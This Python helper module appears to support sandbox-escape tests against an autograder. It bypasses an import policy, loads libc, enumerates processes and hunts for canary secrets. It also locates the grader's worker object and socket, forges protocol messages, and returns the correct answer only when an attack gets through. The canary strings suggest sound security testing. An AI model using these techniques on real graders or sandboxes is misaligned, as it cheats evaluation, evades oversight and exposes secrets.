"""What the attacks share: a way past the import policy, and a prize for whoever gets through.

An attack that reaches its aim gives the right answer, and so earns what it should not.
"""
import contextlib

import numpy as np
from aim import ASSIGNMENT, FOLDERS, KEY, MARKER, RESULTS, SECRETS, SUBMISSIONS

sys = contextlib.sys
os = sys.modules["os"]
load = sys.modules["importlib"].import_module
re = load("re")


def attempts(ways):
    """Return what came of the ways that got through."""
    got = []
    for way in ways:
        try:
            result = way()
            if result not in (None, False, -1, b"", "", [], ()):
                got.append(str(result)[:200])
        except BaseException:
            continue
    return got


def pays(attack):
    """Answer rightly if the attack gets through."""

    def double(x):
        got = attack()
        if got:
            print(got)
            return x * 2
        raise RuntimeError("nothing got through")

    return double


def done(result):
    """What returns without an exception got through."""
    return "done"


def secrets_in(data):
    """The secrets that a text or bytes hold."""
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    return [one.decode() for one in re.findall(rb"canary-[a-z]+-[0-9a-f]{32}", data)]


def read(path):
    with open(path, "rb", 0) as file:
        return file.read(2**20)


def libc():
    return load("ctypes").CDLL(None, use_errno=True)


def processes():
    """The first process, the worker's parent, some that are older, and whatever /proc lists."""
    parent = os.getppid()
    found = {1, parent, *range(max(2, parent - 40), parent)}
    with contextlib.suppress(OSError):
        found |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    return sorted(found - {os.getpid()}, reverse=True)


def worker():
    """The object that answers the grader, from the frames below."""
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "Worker":
        frame = frame.f_back
    return frame.f_locals["self"]


def connection():
    """The descriptor of the connection to the grader: the one that is a socket."""
    for fd in range(64):
        with contextlib.suppress(OSError):
            if os.fstat(fd).st_mode & 0o170000 == 0o140000:
                return fd


def send(data):
    """Write to the grader's connection."""
    view, fd = memoryview(data), connection()
    while view:
        view = view[os.write(fd, view):]


def message(name, *fields, number=None, body=()):
    """The bytes of one of the protocol's own messages."""
    protocol = sys.modules["autograder.sandbox.protocol"]
    number = worker()._number if number is None else number
    return protocol.pack(number, getattr(protocol, name)(*fields), list(body))


def plain(*values):
    """A reply with plain values."""
    protocol = sys.modules["autograder.sandbox.protocol"]
    return [[protocol.Plain(value) for value in values], len(values) == 1, []]
